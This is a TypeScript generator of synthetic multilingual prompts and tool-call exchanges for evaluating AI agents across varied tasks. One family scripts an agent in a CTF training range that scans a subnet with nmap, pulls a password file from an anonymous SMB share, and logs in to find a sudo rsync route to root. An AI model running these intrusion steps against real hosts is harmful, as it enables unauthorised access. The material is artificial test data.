        en: `How is ${flask} doing and what should I do with it today?`,
        fr: `Où en est le flacon ${flask} et qu'est-ce que je dois en faire aujourd'hui ?`,
        pt: `Como está o frasco ${flask} e o que devo fazer com ele hoje?`,
      })),
    ];
    exchange(rng, m, 'read_notebook', { flask_id: flask }, J(entries));
    exchange(rng, m, 'get_imaging', { flask_id: flask }, J({ taken: `2026-03-${pad(d0 + 4)}T07:${pad(rng.int(0, 59))}`, confluence_pct: rng.int(85, 99), floating_debris_index: +(rng.next() * 0.6).toFixed(2), morphology_flag: rng.pick(['none', 'rounded_cells', 'none']) }));
    if (i % 2 === 0) exchange(rng, m, 'get_incubator_log', { incubator: 'INC-2', hours: 48 }, `CO2 avg 5.0% min 4.1% (door open 14:02-14:09)\nT avg 37.0C\nRH 93%\nalarms: ${rng.pick(['none', 'CO2 low 03:12 (cleared 03:40)'])}`);
    return { lang, messages: m, tools };
  },
};

const wcMbWildfire: Family = {
  id: 'wc-mb-wildfire-eoc',
  label: 'model_based_reflex',
  difficulty: 'hard',
  rationale: 'The operations assistant fuses scattered field reports into a picture of fire and roads it cannot see, and is asked what the current zone picture is.',
  variants: 5,
  make(rng, i) {
    const lang = langAt(['es', 'en', 'pt', 'en', 'en'], i);
    const zones = ['Z-1 Cedar Flats', 'Z-2 Ridgeview', 'Z-3 Mill Creek', 'Z-4 Old Town', 'Z-5 Pine Hollow'];
    const h = rng.int(13, 17);
    const wind = rng.pick(['SW 25 km/h gusting 45', 'W 18 km/h', 'SSW 30 km/h gusting 55']);
    const tools = [
      tool('fetch_field_reports', 'Radio/CAD field reports since a time.', { since: str }),
      tool('fetch_road_status', 'Road closures and contraflow from DOT feed.', {}),
      tool('fetch_zone_orders', 'Current evacuation orders as published (may lag).', {}),
    ];
    const m: ChatMessage[] = [
      sys(`Emergency Operations Center assistant, ${rng.pick(['Tehama', 'Sierra Vista', 'Coldwater'])} County. Reports come from different units and can be late, duplicated or contradictory; published orders can lag the ground truth by 30+ minutes. Maintain the best current picture per zone (fire proximity, road access, order level) and say how confident you are. Do not issue orders yourself.`),
      user(t(lang, {
        en: `Wind is now ${wind}. Pull the latest and tell me where each zone stands right now.`,
        es: `El viento ahora es ${wind}. Trae lo último y dime cómo está cada zona ahora mismo.`,
        pt: `O vento agora está ${wind}. Puxe o mais recente e me diga como está cada zona neste momento.`,
      })),
    ];
    exchange(rng, m, 'fetch_field_reports', { since: hhmm(h - 1, 30) }, [
      `${hhmm(h - 1, 41)} E-${rng.int(10, 60)}: spot fires north of Mill Creek Rd, 0.5 mi from first structures`,
      `${hhmm(h - 1, 55)} Dozer ${rng.int(1, 9)}: line holding on east flank near Cedar Flats`,
      `${hhmm(h, 3)} CHP: Ridgeview Dr blocked by downed power line at mile ${rng.int(2, 9)}`,
      `${hhmm(h, 9)} E-${rng.int(10, 60)}: (repeat) spots Mill Creek now ${rng.pick(['0.2', '0.3'])} mi, ember cast into Pine Hollow drainage`,
      `${hhmm(h, 12)} Air Attack: head moving NE, est ${rng.int(20, 60)} ac/hr`,
    ].join('\n'));
    const roads = J([{ road: 'Ridgeview Dr', status: 'closed', since: hhmm(h, 5) }, { road: 'Hwy 36 EB', status: rng.pick(['open', 'contraflow']) }, { road: 'Mill Creek Rd', status: 'open' }]);
    const orders = J(zones.map((z, k) => ({ zone: z, order: k === 2 ? 'warning' : k === 0 ? 'order' : 'none', published: hhmm(h - 1, 15) })));
    if (i % 2 === 0) {
      const par = calls(rng, ['fetch_road_status', {}], ['fetch_zone_orders', {}]);
      m.push(par.message, result(par.ids[0]!, roads), result(par.ids[1]!, orders));
    } else {
      exchange(rng, m, 'fetch_road_status', {}, roads);
      exchange(rng, m, 'fetch_zone_orders', {}, orders);
    }
    if (i >= 3) {
      m.push(say('Z-3 Mill Creek is under a published warning, but the field reports put spots 0.2-0.3 mi from structures, so the ground picture is ahead of the orders there. Ridgeview has only one road out and it is closed. Want me to pull the shelter capacity too?'));
      m.push(user(rng.pick(['no. just give me the per-zone table, and flag where published orders lag', 'Yes, but first the zone table.'])));
    }
    return { lang, messages: m, tools };
  },
};

// ---------------------------------------------------------------- goal_based

const wcGbCtf: Family = {
  id: 'wc-gb-ctf-range',
  label: 'goal_based',
  difficulty: 'hard',
  rationale: 'The agent works step by step through a lab network toward one stated objective (reading a flag) and is asked for its next move.',
  variants: 4,
  make(rng, i) {
    const lang = langAt(['en', 'en', 'de', 'en'], i);
    const sub = rng.int(2, 9);
    const target = `10.10.${sub}.${rng.int(20, 40)}`;
    const jump = `10.10.${sub}.${rng.int(50, 70)}`;
    const user1 = rng.pick(['svc_backup', 'deploy', 'jenkins']);
    const tools = [
      tool('run', 'Run a shell command on the attack box (Kali) in the training range.', { cmd: str, timeout_s: int }),
      tool('ssh_exec', 'Run a command on a range host over SSH with given credentials.', { host: str, user: str, password: str, cmd: str }),
      tool('submit_flag', 'Submit a captured flag to the scoreboard.', { flag: str }),
    ];
    const m: ChatMessage[] = [
      sys(`You are an autonomous player in an isolated CTF training range (range-${rng.int(10, 99)}.ctf.internal, all hosts in scope are 10.10.${sub}.0/24). Objective: read /root/flag.txt on ${target} and submit it. Work in small steps: one tool call per turn, explain briefly why. No brute-forcing beyond the provided wordlists, no DoS.`),
      user(t(lang, { en: 'Go. Range is up.', de: 'Los geht\'s, die Range läuft.' })),
    ];
    exchange(rng, m, 'run', { cmd: `nmap -sV -T4 10.10.${sub}.0/24 --top-ports 100`, timeout_s: 300 },
      `Nmap scan report for ${jump}\n21/tcp open ftp vsftpd 3.0.3\n22/tcp open ssh OpenSSH 8.2p1\n445/tcp open microsoft-ds Samba 4.11\n\nNmap scan report for ${target}\n22/tcp open ssh OpenSSH 8.9p1\n8080/tcp open http Jetty 9.4 (Jenkins ${rng.pick(['2.387', '2.401'])})`);
    exchange(rng, m, 'run', { cmd: `smbclient -N -L //${jump}`, timeout_s: 30 }, `Sharename  Type  Comment\n---------  ----  -------\nbackups    Disk  nightly\nIPC$       IPC   IPC Service`);
    exchange(rng, m, 'run', { cmd: `smbclient -N //${jump}/backups -c 'ls; get creds.old'`, timeout_s: 30 }, `  creds.old   N   ${rng.int(80, 200)}  Mon Feb  3 02:00:11 2026\ngetting file \\creds.old\n--- creds.old ---\n${user1}:${rng.pick(['Spring2025!', 'B4ckup#01', 'changeme42'])}`);
    if (i % 2 === 1) {
      exchange(rng, m, 'ssh_exec', { host: jump, user: user1, password: '<from creds.old>', cmd: 'id; sudo -l' }, `uid=1001(${user1}) gid=1001(${user1}) groups=1001(${user1})\nUser ${user1} may run the following commands on this host:\n    (root) NOPASSWD: /usr/bin/rsync`);
      m.push(say('Got a foothold on the jump host; rsync via sudo gives root there, but the flag is on the other box.'));
    }
    m.push(user(rng.pick(['next step?', 'continue', 'What do you do next, and why?'])));
    return { lang, messages: m, tools, tool_choice: 'auto' };
  },
};

const wcGbVisa: Family = {
  id: 'wc-gb-visa-entry',
  label: 'goal_based',
  difficulty: 'medium',
  rationale: 'A fixed target (being allowed to board and enter by a date) is reached by ordering dependent paperwork steps with lead times.',
  variants: 5,
  make(rng, i) {
    const lang = langAt(['en', 'de', 'es', 'en', 'fr'], i);
    const dest = rng.pick(['Japan', 'India', 'Brazil', 'Australia', 'Vietnam']);
    const weeks = rng.int(6, 14);
    const facts = {
      traveller_nationality: rng.pick(['Nigeria', 'Colombia', 'Pakistan', 'Philippines', 'Egypt']),
      residence: rng.pick(['Germany', 'Spain', 'France']),
      passport_expires_in_months: rng.int(3, 9),
      event: `conference in ${dest}, weeks from today: ${weeks}`,
      requirements: [
        { step: 'passport_renewal', lead_time_weeks: rng.int(3, 6), note: 'embassy appointment needed, next free slot in ' + rng.int(1, 3) + ' weeks' },
        { step: 'invitation_letter', lead_time_weeks: 1, note: 'from conference organiser, must show new passport number' },
        { step: 'visa_application', lead_time_weeks: rng.int(2, 4), note: 'requires passport valid 6 months beyond arrival and invitation letter' },
        { step: 'biometrics', lead_time_weeks: 1, note: 'only after visa application is lodged' },
        { step: 'travel_insurance', lead_time_weeks: 0, note: 'certificate must list visa dates' },
      ],
    };
    const ask = t(lang, {
      en: `I need to get into ${dest} for this. Put the steps in the order I have to do them with the latest safe start week for each, and tell me if it's even possible.`,
      de: `Ich muss dafür nach ${dest} einreisen können. Bring die Schritte in die Reihenfolge, in der ich sie erledigen muss, mit der spätesten sicheren Startwoche für jeden, und sag mir, ob das überhaupt machbar ist.`,
      es: `Necesito poder entrar a ${dest} para esto. Ordena los pasos en el orden en que tengo que hacerlos, con la última semana segura para empezar cada uno, y dime si es siquiera posible.`,
      fr: `Je dois pouvoir entrer au ${dest} pour cela. Mets les étapes dans l'ordre où je dois les faire, avec la dernière semaine sûre pour commencer chacune, et dis-moi si c'est seulement faisable.`,
    });
    const messages: ChatMessage[] = [];
    if (i !== 3) messages.push(sys('Travel document assistant for a corporate travel desk. Work only from the facts provided; flag missing information instead of guessing entry rules.'));
    messages.push(user(`${ask}\n\n${JP(facts)}`));
    return {
      lang, messages,
      response_format: i % 2 === 0 ? jsonSchema('doc_sequence', {
        feasible: bool,
        steps: list(obj({ step: str, start_by_week: int, done_by_week: int, depends_on: list(str) })),
        blockers: list(str),
      }) : undefined,
    };
  },
};

const wcGbCraft: Family = {
  id: 'wc-gb-crafting-tree',
  label: 'goal_based',
  difficulty: 'medium',
  rationale: 'Given an inventory and a recipe tree, the bot must find the sequence of gather and craft actions that yields one target item.',
  variants: 4,
  make(rng, i) {
    const lang = langAt(['ja', 'en', 'zh', 'en'], i);
    const inv = { oak_log: rng.int(1, 4), cobblestone: rng.int(0, 6), stick: rng.int(0, 2), coal: rng.int(0, 3), raw_iron: rng.int(0, 4), crafting_table: rng.int(0, 1) };
    const recipes = [
      'oak_planks x4 <- oak_log x1',
      'stick x4 <- oak_planks x2',
      'crafting_table <- oak_planks x4',
      'furnace <- cobblestone x8 (needs crafting_table)',
      'wooden_pickaxe <- oak_planks x3 + stick x2 (needs crafting_table)',
      'stone_pickaxe <- cobblestone x3 + stick x2 (needs crafting_table)',
      'iron_ingot <- raw_iron x1 + fuel (furnace; coal = 8 smelts, oak_planks = 1.5)',
      'iron_pickaxe <- iron_ingot x3 + stick x2 (needs crafting_table)',
      'mine cobblestone: needs any pickaxe; mine raw_iron: needs stone_pickaxe or better',
    ];
    const target = rng.pick(['iron_pickaxe', 'iron_pickaxe', 'shield (oak_planks x6 + iron_ingot x1)', 'bucket (iron_ingot x3)']);
    const body = t(lang, {
      en: `My bot is in survival mode. Inventory:\n${J(inv)}\nKnown recipes:\n${recipes.join('\n')}\nTarget: ${target}. Nearby: forest 20 blocks, exposed stone, an iron vein at y=${rng.int(20, 60)}. Give the action list (gather/craft/smelt/mine) in order, shortest you can.`,
      ja: `ボットはサバイバルモードです。インベントリ:\n${J(inv)}\n既知のレシピ:\n${recipes.join('\n')}\n目的のアイテム: ${target}。近くに森（20ブロック）、露出した石、y=${rng.int(20, 60)} に鉄鉱脈があります。必要な行動（採集／クラフト／精錬／採掘）を順番に、できるだけ短く並べてください。`,
      zh: `我的机器人在生存模式。背包：\n${J(inv)}\n已知配方：\n${recipes.join('\n')}\n要做出：${target}。附近有森林（20格）、裸露的石头，y=${rng.int(20, 60)} 有铁矿脉。请按顺序列出动作（采集/合成/冶炼/挖矿），尽量短。`,
    });
    return {
      lang,
      messages: [
        ...(i % 2 === 0 ? [sys('You control a Mineflayer bot. Output actions the bot runtime understands: gather(item, n), craft(item, n), smelt(item, n, fuel), mine(block, n), place(block). One per line, no commentary.')] : []),
        user(body),
      ],
      max_tokens: rng.pick([300, 400, 512]),
    };
  },
};

const wcGbPermits: Family = {
  id: 'wc-gb-food-truck-permits',
  label: 'goal_based',
  difficulty: 'hard',
  rationale: 'The agent works through dependent city permits toward being allowed to trade by a fixed date, choosing the next action from what is still blocking.',
  variants: 5,
  make(rng, i) {
    const lang = langAt(['en', 'fr', 'de', 'en', 'en'], i);
    const day = rng.int(4, 28);
    const tools = [
      tool('get_requirement', 'Look up a permit in the city licensing catalogue.', { permit_code: str }),
      tool('get_application', 'Status of one of the applicant\'s applications.', { application_id: str }),
      tool('list_inspection_slots', 'Open inspection slots for a service.', { service: oneOf('fire_safety', 'health_mobile_unit', 'commissary_visit'), from_date: str }),
      tool('book_inspection', 'Book an inspection slot.', { slot_id: str }),
    ];
    const m: ChatMessage[] = [
      sys(`You help small businesses get licensed with the City of ${rng.pick(['Portland', 'Montréal', 'Leipzig', 'Austin'])} via the city's API. The business owner wants to sell at the Saturday riverside market from 2026-06-${pad(day)}. Work out what is still missing to legally trade by then, in the right order, and take actions with the tools where you can. Ask the owner only for things you cannot do.`),
      user(t(lang, {
        en: `Hi, it's ${rng.pick(['Dana', 'Marco', 'Aisha'])} from ${rng.pick(['Bao Bros', 'Tacos Lupita', 'Crêpe Wagon'])}. Where am I at and what's the next thing to do?`,
        fr: `Bonjour, c'est ${rng.pick(['Camille', 'Yanis'])} de ${rng.pick(['Crêpe Wagon', 'Poutine Mobile'])}. Où j'en suis et quelle est la prochaine chose à faire ?`,
        de: `Hallo, hier ist ${rng.pick(['Jonas', 'Mira'])} von ${rng.pick(['Wurstwagen Nord', 'Falafel Express'])}. Wie weit bin ich und was ist als Nächstes zu tun?`,
      })),
    ];
    exchange(rng, m, 'get_application', { application_id: `MFV-${rng.int(10000, 99999)}` }, J({ type: 'mobile_food_vendor_license', status: 'pending', missing: ['health_mobile_unit_inspection', 'fire_safety_certificate'], commissary_agreement: rng.pick(['on_file', 'expired']) }));
    exchange(rng, m, 'get_requirement', { permit_code: 'health_mobile_unit' }, J({ prerequisites: ['commissary_agreement (valid)', 'fire_safety_certificate'], processing_days: rng.int(5, 10), note: 'inspection must be booked at least 3 business days ahead' }));
    exchange(rng, m, 'get_requirement', { permit_code: 'fire_safety' }, J({ prerequisites: ['propane_tank_certification'], processing_days: rng.int(1, 4) }));
    if (i % 2 === 0) {
      exchange(rng, m, 'list_inspection_slots', { service: 'fire_safety', from_date: '2026-05-18' }, J([{ slot_id: `FS-${rng.int(100, 999)}`, date: `2026-05-${rng.int(19, 29)}` }, { slot_id: `FS-${rng.int(100, 999)}`, date: `2026-06-0${rng.int(1, 3)}` }]));
      m.push(user(t(lang, { en: 'the propane tank cert is done, I have the paper. go ahead', fr: 'la certification de la bonbonne de propane est faite, j\'ai le papier. vas-y', de: 'Die Propanflaschen-Zertifizierung ist erledigt, ich habe das Papier. Mach weiter.' })));
    }
    return { lang, messages: m, tools };
  },
};

const wcGbScene: Family = {
  id: 'wc-gb-home-scene',
  label: 'goal_based',
  secondary: 'model_based_reflex',
  difficulty: 'medium',
  rationale: 'The assistant drives a set of devices, each with preconditions, toward one described end configuration and must pick the next command.',
  variants: 4,
  make(rng, i) {
    const lang = langAt(['en', 'ja', 'de', 'en'], i);
    const tools = [
      tool('list_devices', 'Devices in a room with their current values and dependencies.', { room: str }),
      tool('set_device', 'Send a command to a device.', { device_id: str, command: str, value: { type: ['string', 'number', 'null'] } }),
    ];
    const hdmi = rng.int(1, 3);
    const want = t(lang, {
      en: `Movie night in the living room: screen down, projector on HDMI ${hdmi}, blinds closed, ceiling lights off, lamp at ${rng.int(5, 20)}%, soundbar on.`,
      ja: `リビングで映画を見たい：スクリーンを下ろして、プロジェクターは HDMI ${hdmi}、ブラインドを閉めて、天井灯は消して、ランプは${rng.int(5, 20)}%、サウンドバーをオン。`,
      de: `Filmabend im Wohnzimmer: Leinwand runter, Beamer auf HDMI ${hdmi}, Jalousien zu, Deckenlicht aus, Stehlampe auf ${rng.int(5, 20)} %, Soundbar an.`,
    });
    const m: ChatMessage[] = [
      sys('You are the home assistant. Fulfil room requests by issuing device commands one at a time. Respect device dependencies (some devices refuse commands until another is ready). After each tool result, decide the next command; when everything matches the request, reply "done" with a one-line summary.'),
      user(want),
    ];
    exchange(rng, m, 'list_devices', { room: 'living_room' }, J([
      { id: 'relay.av_rack', value: 'off', note: 'powers projector and soundbar' },
      { id: 'cover.screen', value: 'up' },
      { id: 'media.projector', value: 'unavailable', depends_on: ['relay.av_rack'], boot_seconds: 40 },
      { id: 'media.soundbar', value: 'unavailable', depends_on: ['relay.av_rack'] },
      { id: 'cover.blinds', value: rng.pick(['open', 'half']) },
      { id: 'light.ceiling', value: 'on' },
      { id: 'light.floor_lamp', value: 'off' },
    ]));
    const steps: [string, unknown, unknown][] = [
      ['relay.av_rack', 'turn_on', { ok: true, value: 'on' }],
      ['cover.screen', 'close', { ok: true, value: 'closing', eta_s: 25 }],
      ['media.projector', 'select_source', { ok: false, error: 'device booting, retry in 30 s' }],
      ['cover.blinds', 'close', { ok: true, value: 'closing' }],
    ];
    const done = rng.int(1, 4);
    for (const [dev, cmd, out] of steps.slice(0, done)) exchange(rng, m, 'set_device', { device_id: dev, command: cmd, value: cmd === 'select_source' ? `HDMI${hdmi}` : null }, J(out));
    return { lang, messages: m, tools };
  },
};

const wcGbPort: Family = {
  id: 'wc-gb-number-port',
  label: 'goal_based',
  difficulty: 'medium',
  rationale: 'A business must have its numbers moved to a new carrier before a hard date, and the assistant lays out the remaining dependent steps from where the process is stuck.',
  variants: 4,
  make(rng, i) {
    const lang = langAt(['en', 'pt', 'en', 'es'], i);
    const dids = rng.int(6, 40);
    const deadline = `2026-0${rng.int(5, 9)}-${pad(rng.int(1, 28))}`;
    const log = [
      `D-${rng.int(20, 30)}  CSR requested from losing carrier (${rng.pick(['Lumen', 'Vivo', 'Telefónica', 'Windstream'])}) -> received`,
      `D-${rng.int(12, 19)}  LOA submitted with service address from billing system`,
      `D-${rng.int(8, 11)}  Port request REJECTED: "End user address does not match CSR" (code 6F)`,
      `D-${rng.int(3, 7)}  ${rng.pick(['Customer says CSR address is old office', 'No action'])}`,
    ];
    const facts = `Numbers to port: ${dids} DIDs + 1 main BTN, one has a toll-free overlay.\nOld contract ends ${deadline} (service stops that day).\nLosing carrier FOC lead time: ${rng.int(5, 10)} business days after an accepted LSR.\nNew trunk on our side: ${rng.pick(['provisioned, not tested', 'provisioned and tested', 'not yet provisioned'])}.\nHistory:\n${log.join('\n')}`;
    const q = t(lang, {
      en: 'What has to happen, in what order, so the numbers are live on our side before the old service is cut? Today is D-0.',
      pt: 'O que precisa acontecer, e em que ordem, para os números estarem ativos do nosso lado antes do corte do serviço antigo? Hoje é D-0.',
      es: '¿Qué tiene que pasar, y en qué orden, para que los números estén activos de nuestro lado antes de que corten el servicio antiguo? Hoy es D-0.',
    });
    return {
      lang,
      messages: [
        sys('Porting desk assistant for a UCaaS provider. Be concrete: each step with owner (us / customer / losing carrier), earliest date and what it unblocks.'),
        user(`${facts}\n\n${q}`),
      ],
      max_tokens: i % 2 ? 700 : undefined,
    };
  },
};

// ---------------------------------------------------------------- utility_based

const wcUbPatch: Family = {
  id: 'wc-ub-patch-window',
  label: 'utility_based',
  secondary: 'goal_based',
  difficulty: 'hard',
  rationale: 'A limited maintenance window forces a choice of which fixes to apply, trading risk reduced against downtime and effort.',
  variants: 5,
  make(rng, i) {
    const lang = langAt(['en', 'de', 'en', 'en', 'en'], i);
    const cves = [
      ['CVE-2026-1184', 'openssh', 'bastion-01', 8.1, true],
      ['CVE-2026-0931', 'nginx', 'web-01..06', 7.5, false],
      ['CVE-2025-48812', 'postgresql', 'db-primary', 6.6, false],
      ['CVE-2026-2207', 'glibc', 'all 38 hosts', 7.8, true],
      ['CVE-2025-51120', 'jenkins', 'ci-01', 9.0, true],
      ['CVE-2026-0412', 'kernel', 'k8s-node-*', 7.0, false],
      ['CVE-2025-49901', 'openssl', 'vpn-gw', 5.9, false],
    ] as const;
    const rows = rng.sample([...cves], rng.int(5, 7)).map(([id, pkg, hosts, cvss, kev]) => ({
      id, pkg, hosts, cvss, known_exploited: kev,
      internet_facing: rng.chance(0.5),
      downtime_min: rng.pick([0, 5, 15, 30, 45, 90]),
      engineer_hours: rng.pick([0.5, 1, 2, 3, 4]),
    }));
    const window = rng.int(3, 5);
    const people = rng.int(2, 3);
    const body = t(lang, {
      en: `Saturday window is ${window}h with ${people} engineers. Customer-facing downtime budget: ${rng.int(30, 60)} min total. Score each fix as cvss x (2 if known exploited) x (1.5 if internet facing). Pick which ones we do this window so we get the most risk off the table without blowing the downtime budget or engineer hours; the rest go to next month.`,
      de: `Das Wartungsfenster am Samstag ist ${window} h mit ${people} Engineers. Budget für kundenseitige Ausfallzeit: insgesamt ${rng.int(30, 60)} min. Bewerte jeden Fix mit cvss x (2 falls aktiv ausgenutzt) x (1,5 falls aus dem Internet erreichbar). Wähle aus, welche wir in diesem Fenster machen, sodass wir möglichst viel Risiko abbauen, ohne Ausfallbudget oder Personenstunden zu sprengen; der Rest kommt nächsten Monat.`,
    });
    return {
      lang,
      messages: [
        sys('Vulnerability management assistant for the platform team. Use only the data given.'),
        user(`${body}\n\n${JP(rows)}`),
      ],
      response_format: jsonSchema('patch_selection', {
        this_window: list(str), deferred: list(str), downtime_min: num, engineer_hours: num, risk_points_removed: num, notes: str,
      }),
    };
  },
};

const wcUbFantasy: Family = {
  id: 'wc-ub-fantasy-lineup',
  label: 'utility_based',
  difficulty: 'medium',
  rationale: 'A lineup is picked from priced players under a salary cap and slot rules, trading projected points against risk.',
  variants: 5,
  make(rng, i) {
    const lang = langAt(['es', 'en', 'pt', 'en', 'en'], i);
    const names = ['J. Okafor', 'L. Brandt', 'M. Santos', 'T. Hale', 'R. Iwata', 'D. Moreau', 'K. Petrov', 'A. Ruiz', 'C. Nguyen', 'B. Adeyemi', 'S. Kowal', 'E. Lind'];
    const pos = ['PG', 'SG', 'SF', 'PF', 'C'];
    const pool = names.map((n, k) => ({
      player: n, pos: pos[k % 5], salary: rng.int(35, 110) * 100, proj_pts: +(18 + rng.next() * 34).toFixed(1),
      stdev: +(4 + rng.next() * 9).toFixed(1), status: rng.pick(['active', 'active', 'active', 'questionable']),
    }));
    const cap = rng.pick([35000, 38000, 40000]);
    const contest = rng.pick(['cash (50/50)', 'GPP tournament']);
    const q = t(lang, {
      en: `Tonight's slate. Cap $${cap}, 6 slots: PG, SG, SF, PF, C, UTIL. Contest type: ${contest}. Pick my lineup from this pool; for cash favour floor, for GPP accept variance. Skip questionable guys unless the value is huge.`,
      es: `Jornada de esta noche. Tope salarial $${cap}, 6 puestos: PG, SG, SF, PF, C, UTIL. Tipo de concurso: ${contest}. Elige mi alineación de esta lista; en cash prioriza el piso, en GPP acepta varianza. Evita a los dudosos salvo que el valor sea enorme.`,
      pt: `Rodada de hoje à noite. Teto salarial $${cap}, 6 posições: PG, SG, SF, PF, C, UTIL. Tipo de disputa: ${contest}. Monte minha escalação a partir desta lista; em cash priorize o piso, em GPP aceite variância. Evite os duvidosos, a não ser que o valor seja enorme.`,
    });
    const table = ['player | pos | salary | proj | sd | status', ...pool.map((p) => `${p.player} | ${p.pos} | ${p.salary} | ${p.proj_pts} | ${p.stdev} | ${p.status}`)].join('\n');
    return {
      lang,
      messages: [...(i % 2 === 0 ? [sys('Daily fantasy basketball assistant. Show the lineup as a table with total salary and projected points.')] : []), user(`${q}\n\n${table}`)],
    };
  },
};

const wcUbUpgrades: Family = {
  id: 'wc-ub-upgrade-allocation',
  label: 'utility_based',
  difficulty: 'medium',
  rationale: 'A handful of better rooms must be assigned among many arriving guests, weighing loyalty value, revenue and service recovery.',
  variants: 4,
  make(rng, i) {
    const lang = langAt(['fr', 'en', 'de', 'en'], i);
    const rooms = rng.int(2, 4);
    const guests = Array.from({ length: rng.int(6, 9) }, (_, k) => ({
      res: `R${rng.int(10000, 99999)}`,
      tier: rng.pick(['none', 'silver', 'gold', 'platinum']),
      nights: rng.int(1, 6),
      rate_eur: rng.int(140, 320),
      paid_upgrade_offer_eur: rng.chance(0.3) ? rng.int(30, 90) : 0,
      occasion: rng.pick(['', '', 'anniversary', 'honeymoon', '']),
      prior_complaint: k === 2 ? 'noisy room last stay' : '',
      eta: hhmm(rng.int(13, 22), rng.pick([0, 15, 30, 45])),
    }));
    const instr = t(lang, {
      en: `We have ${rooms} junior suites free tonight. Decide who gets them. Platinum is worth roughly 3x gold for retention, a paid upgrade is straight revenue, a complaint recovery is worth about a gold guest, occasions matter for reviews. Late arrivals after 21:00 can't be walked through the suite anyway. Give the assignment and one line why for each.`,
      fr: `Nous avons ${rooms} suites juniors libres ce soir. Décide qui les obtient. Un client platinum vaut environ 3 fois un gold pour la fidélisation, un surclassement payant est du revenu direct, rattraper une réclamation vaut à peu près un client gold, les occasions comptent pour les avis. Les arrivées après 21h00 ne peuvent pas visiter la suite de toute façon. Donne l'attribution avec une ligne de justification pour chacun.`,
      de: `Wir haben heute Abend ${rooms} Junior-Suiten frei. Entscheide, wer sie bekommt. Platinum ist für die Kundenbindung etwa 3x so viel wert wie Gold, ein bezahltes Upgrade ist direkter Umsatz, eine Beschwerde wiedergutzumachen ist etwa so viel wert wie ein Gold-Gast, Anlässe zählen für Bewertungen. Ankünfte nach 21:00 können die Suite sowieso nicht mehr besichtigen. Gib die Zuteilung mit je einer Zeile Begründung.`,
    });
    return {
      lang,
      messages: [sys(`Front office assistant, ${rng.pick(['Hôtel Rivage Lyon', 'Hotel Am Stadtpark', 'The Harbourline'])}. PMS export follows the user request.`), user(`${instr}\n\n${JP(guests)}`)],
      response_format: i === 3 ? jsonSchema('upgrades', { assignments: list(obj({ res: str, room_type: str, reason: str })) }) : undefined,
    };
  },
};

const wcUbWifi: Family = {
  id: 'wc-ub-wifi-channels',
  label: 'utility_based',
  difficulty: 'hard',
  rationale: 'The request asks for a channel and power setting per access point that best balances interference, coverage and DFS risk across the floor.',
  variants: 5,
  make(rng, i) {
    const lang = langAt(['zh', 'en', 'ja', 'en', 'en'], i);
    const aps = Array.from({ length: rng.int(5, 8) }, (_, k) => `AP-${rng.pick(['3F', '4F'])}-${pad(k + 1)}`);
    const neigh = aps.map((a, k) => ({
      ap: a,
      clients_peak: rng.int(8, 60),
      hears: aps.filter((_, j) => j !== k && Math.abs(j - k) <= 2).map((b) => ({ ap: b, rssi: -rng.int(55, 82) })),
      foreign_bss_5g: rng.pick([[36], [44, 149], [100], [], [157]]),
    }));
    const q = t(lang, {
      en: `Need 5 GHz channel assignments for this floor (20/40 MHz only, UNII-1 and UNII-3 are clean, DFS 52-144 allowed but radar events on ch 100-116 twice last month). Pick channel, width and tx power (8-20 dBm) for each AP. Dense areas matter more than corner offices; co-channel between APs that hear each other above -70 is the main thing to avoid.`,
      zh: `这一层需要一份 5 GHz 信道方案（只用 20/40 MHz，UNII-1 和 UNII-3 干净，DFS 52-144 可以用，但上个月 100-116 信道出现过两次雷达事件）。为每个 AP 选择信道、带宽和发射功率（8-20 dBm）。高密度区域比角落办公室更重要；主要是避免彼此 RSSI 高于 -70 的 AP 同信道。`,
      ja: `このフロアの 5 GHz チャネル割り当てが必要です（20/40 MHz のみ、UNII-1 と UNII-3 は空いている、DFS 52-144 も使用可だが先月 ch100-116 でレーダー検出が2回）。各 AP のチャネル、帯域幅、送信出力（8-20 dBm）を決めてください。角の個室より混雑エリアを重視し、-70 より強く聞こえる AP 同士の同一チャネルを何より避けたいです。`,
    });
    return {
      lang,
      messages: [sys('Wireless engineering assistant. Site survey data is JSON.'), user(`${q}\n\n${J(neigh)}`)],
      response_format: jsonSchema('rf_settings', { aps: list(obj({ ap: str, channel: int, width_mhz: int, tx_dbm: int })), residual_conflicts: list(str) }),
      max_tokens: rng.pick([600, 800, 1000]),
    };
  },
};

const wcUbTelescope: Family = {
  id: 'wc-ub-telescope-nights',
  label: 'utility_based',
  difficulty: 'medium',
  rationale: 'Scarce observing nights are shared among graded proposals with moon and visibility constraints, asking for the allocation that yields the most science.',
  variants: 4,
  make(rng, i) {
    const lang = langAt(['en', 'de', 'en', 'fr'], i);
    const nights = rng.int(10, 16);
    const props = Array.from({ length: rng.int(5, 7) }, (_, k) => ({
      id: `2026B-${pad(rng.int(1, 99), 3)}`,
      pi: rng.pick(['Ahmed', 'Bauer', 'Chen', 'Duarte', 'Eriksen', 'Fujita', 'Garnier']),
      grade: +(1 + rng.next() * 2.5).toFixed(2),
      nights_requested: rng.int(1, 5),
      min_useful_nights: 1 + (k % 2),
      moon: rng.pick(['dark', 'grey', 'any']),
      target_ra_h: rng.int(0, 23),
      student_thesis: rng.chance(0.3),
    }));
    const body = t(lang, {
      en: `TAC meeting: we have ${nights} nights in the run (dark nights: ${Math.floor(nights / 2)}, the rest grey/bright). Grade 1.0 is best. Allocate nights to proposals: partial allocations below min_useful_nights are worthless, dark-moon programmes can't use bright nights, thesis programmes get a small bonus. Give the allocation and what gets cut.`,
      de: `TAC-Sitzung: Wir haben ${nights} Nächte im Block (dunkle Nächte: ${Math.floor(nights / 2)}, der Rest grau/hell). Note 1,0 ist die beste. Verteile die Nächte auf die Anträge: Teilzuteilungen unter min_useful_nights sind wertlos, Dunkelmond-Programme können keine hellen Nächte nutzen, Dissertationsprojekte bekommen einen kleinen Bonus. Gib die Zuteilung an und was gestrichen wird.`,
      fr: `Réunion du comité : nous avons ${nights} nuits dans le bloc (nuits noires : ${Math.floor(nights / 2)}, le reste grises/claires). La note 1,0 est la meilleure. Répartis les nuits entre les propositions : une attribution partielle sous min_useful_nights ne sert à rien, les programmes en lune noire ne peuvent pas utiliser les nuits claires, les programmes de thèse ont un petit bonus. Donne la répartition et ce qui est écarté.`,
    });
    return { lang, messages: [user(`${body}\n\n${JP(props)}`)], max_tokens: i % 2 ? 900 : undefined };
  },
};

const wcUbPolling: Family = {
  id: 'wc-ub-voting-machines',
  label: 'utility_based',
  difficulty: 'medium',
  rationale: 'A fixed number of check-in stations is spread across precincts to keep expected queues lowest, weighing turnout, arrival peaks and equity rules.',
  variants: 5,
  make(rng, i) {
    const lang = langAt(['es', 'en', 'pt', 'en', 'en'], i);
